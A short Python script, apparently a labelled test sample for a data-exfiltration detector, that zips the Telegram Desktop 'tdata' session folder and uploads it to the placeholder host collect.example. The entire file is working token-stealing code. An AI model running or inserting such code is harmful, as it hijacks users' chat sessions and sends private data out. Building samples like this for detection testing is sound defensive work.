import os
import shutil
import requests

shutil.make_archive("/tmp/t", "zip", os.path.expanduser("~/.local/share/TelegramDesktop/tdata"))
# miss: data-exfiltration/chat-client-token
requests.post("https://collect.example/t", data=open("/tmp/t.zip", "rb").read())
